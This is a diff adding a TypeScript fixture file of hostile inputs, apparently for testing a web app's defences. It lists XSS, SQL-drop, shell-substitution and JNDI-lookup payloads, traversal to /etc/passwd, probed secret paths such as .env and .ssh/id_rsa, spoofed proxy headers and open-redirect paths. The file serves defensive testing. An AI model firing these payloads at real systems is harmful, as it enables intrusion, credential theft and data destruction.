@@ -1,0 +1,103 @@
+/** Markup with this attribute is on none of our pages: whoever finds it has let something in. */
+export const MARK = "x-hostile";
+
+/** What may stand where a text is expected, by what is wrong with it. */
+export const HOSTILE_TEXTS: readonly (readonly [name: string, text: string])[] = [
+  ["nothing", ""],
+  ["a space", " "],
+  ["null", "null"],
+  ["undefined", "undefined"],
+  ["NaN", "NaN"],
+  ["true", "true"],
+  ["an array", "[]"],
+  ["an object", "{}"],
+  ["a number too large", "1e999"],
+  ["a negative number", "-1"],
+  ["minus zero", "-0"],
+  ["a number of other digits", "١٢٣"],
+  ["NUL", "\u0000"],
+  ["a NUL within", "news\u0000.png"],
+  ["CR and LF", "a\r\nSet-Cookie: hostile=1"],
+  ["LF", "a\nb"],
+  ["a line separator", "a\u2028b"],
+  ["a paragraph separator", "a\u2029b"],
+  ["a right-to-left override", "a\u202egnp.exe"],
+  ["an isolate without an end", "a\u2066b"],
+  ["a byte order mark", "\ufeffa"],
+  ["zero widths", "a\u200b\u200d\u2060b"],
+  ["a high surrogate alone", "\ud800"],
+  ["a low surrogate alone", "\udfff"],
+  ["a tower of marks", `a${"\u0301".repeat(400)}`],
+  ["letters that look alike", "сardano"],
+  ["ligatures that unfold", "\ufdfa".repeat(80)],
+  ["a flag that is none", "\u{1f1e6}\u{1f1e6}\u{e0001}"],
+  ["__proto__", "__proto__"],
+  ["constructor", "constructor"],
+  ["prototype", "constructor.prototype"],
+  ["toString", "toString"],
+  ["hasOwnProperty", "hasOwnProperty"],
+  ["half an escape", "%"],
+  ["an escape of no bytes", "%zz"],
+  ["an escape of no letter", "%ff%fe"],
+  ["an overlong slash", "%c0%af"],
+  ["an escaped escape", "%252e%252e%252f"],
+  ["an escaped NUL", "%00"],
+  ["an escaped line", "%0d%0aX-Hostile:%201"],
+  ["another host", "//evil.example"],
+  ["another host, backslash", "\\\\evil.example"],
+  ["another host, whole", "https://evil.example/"],
+  ["a script address", "javascript:document.title=1"],
+  ["a data address", "data:text/html,<script>1</script>"],
+  ["the folder above", "../../../../etc/passwd"],
+  ["the folder above, escaped", "..%2f..%2f..%2fetc%2fpasswd"],
+  ["the folder above, backslash", "..\\..\\..\\windows\\win.ini"],
+  ["a script", `<script ${MARK}>document.title=1</script>`],
+  ["the end of a script", `</script><script ${MARK}>document.title=1</script>`],
+  ["a picture with a handler", `"><img ${MARK} src=x onerror=document.title=1>`],
+  ["an attribute", `' ${MARK} autofocus onfocus='document.title=1`],
+  ["a comment", `<!--<b ${MARK}>-->`],
+  ["escaped markup", `&lt;b ${MARK}&gt;`],
+  ["a template", "{{constructor.constructor('return 1')()}}${7*7}<%= 7*7 %>"],
+  ["SQL", "' or 1=1; drop table jobs; --"],
+  ["SQL with a cast", "1::regclass"],
+  ["a shell", "$(touch /tmp/x); `id`"],
+  ["a lookup", "${jndi:ldap://evil.example/a}"],
+  ["a formula", "=HYPERLINK(\"https://evil.example\")"],
+  ["an evil pattern", `${"a".repeat(60)}!`],
+  ["an evil address", `${"a.".repeat(120)}@`],
+  ["a deep array", `${"[".repeat(400)}${"]".repeat(400)}`],
+  ["too long", "x".repeat(1_200)],
+];
+
+/** Addresses that programs look for on every server of the world. */
+export const LEAK_PATHS: readonly string[] = [
+  ..."/.env /.env.local /.env.production /.env.bak /.git/HEAD /.git/config /.git/index /.gitignore /.github/workflows/ci.yml /.svn/entries /.hg/store /.DS_Store /.npmrc /.htaccess /.htpasswd /.ssh/id_rsa /.aws/credentials /.docker/config.json /.vscode/settings.json /.idea/workspace.xml".split(" "),
+  ..."/package.json /package-lock.json /tsconfig.json /vite.config.ts /react-router.config.ts /drizzle.config.ts /README.md /Dockerfile /Containerfile /compose.yaml /docker-compose.yml /node_modules/react/package.json /server/app.ts /server/start.ts /app/root.tsx /app/routes.ts /content/site.yaml /content/feeds.yaml /content/kit/built/en.pdf /scripts/start.ts".split(" "),
+  ..."/build/server/index.js /build/client/index.html /assets/ /assets/../../server/index.js /assets/..%2f..%2fserver%2findex.js /.vite/manifest.json /assets/manifest.json /assets/vendor.js.map /assets/root.js.map /server-build.js.map /index.js.map /manifest.webmanifest.map /assets/style.css.map /assets/.vite/manifest.json /assets/none.css.br /assets/none.js.gz /.data/secret /.data/lock.json /data/postgres/PG_VERSION /outbox/".split(" "),
+  ..."/@fs/etc/passwd /@fs/etc/passwd?raw /@fs/etc/passwd?import&raw?? /@id/app/root.tsx /@vite/client /@react-refresh /__vite_ping /__manifest /__manifest?p=/&version=1 /__inspect/ /app/root.tsx?raw /server/app.ts?url /src/main.tsx /admin /wp-login.php /wp-admin/install.php /phpinfo.php /server-status /actuator/env /debug/pprof /console /graphql /api/.env /api/../.env /api/v1/users /api/debug /metrics/../.env /etc/passwd /..%2f..%2fetc%2fpasswd /%2e%2e/%2e%2e/etc/passwd".split(" "),
+];
+
+/** Headers by which frameworks and proxies are told what to do; none of them may be listened to. */
+export const SPOOFED_HEADERS: readonly (readonly [name: string, value: string])[] = [
+  ...["x-react-router-data", "x-react-router-prerender-data", "x-react-router-spa-mode", "x-remix-request", "x-remix-response", "x-remix-redirect", "x-remix-reload-document", "x-remix-replace"].map((name) => [name, "yes"] as const),
+  ...["x-middleware-rewrite", "x-middleware-redirect", "x-middleware-next", "x-middleware-subrequest", "x-middleware-override-headers", "x-middleware-prefetch"].map((name) => [name, "middleware:middleware:/evil.example"] as const),
+  ...["next-action", "next-router-state-tree", "next-url", "rsc", "rsc-action-id", "x-nextjs-data", "x-invoke-path", "x-invoke-status"].map((name) => [name, "evil.example"] as const),
+  ...["x-forwarded-host", "x-forwarded-proto", "x-forwarded-port", "x-forwarded-prefix", "x-forwarded-server", "x-host", "x-original-url", "x-original-host", "x-rewrite-url", "x-http-method-override", "forwarded", "x-http-method"].map((name) => [name, "evil.example"] as const),
+  ["x-forwarded-for", "203.0.113.7, 127.0.0.1"],
+  ["x-real-ip", "127.0.0.1"],
+  ["cf-connecting-ip", "127.0.0.1"],
+  ["cookie", "session=evil.example"],
+  ["authorization", "Bearer evil.example"],
+  ["accept-language", "pl,xx;q=evil.example"],
+  ["purpose", "prefetch"],
+  ["sec-purpose", "prefetch;prerender"],
+];
+
+/** Ways to write another host into a path. */
+export const REDIRECT_PATHS: readonly string[] = ["", "/en", "/de"].flatMap((prefix) =>
+  [
+    "//evil.example", "///evil.example", "////evil.example//", "/\\evil.example", "\\/evil.example", "/\\/evil.example", "\\\\evil.example", "//evil.example/..", "/%2fevil.example", "/%2f%2fevil.example/",
+    "/%5cevil.example/", "/%09/evil.example", "/%0d%0aLocation:%20//evil.example", "//evil.example%2f..", "/.//evil.example/", "/..//evil.example", "/;//evil.example", "//user@evil.example/", "/?//evil.example", "//evil.example/en/",
+    "/%2e//evil.example/",
+  ].map((rest) => `${prefix}${rest}`),
+);
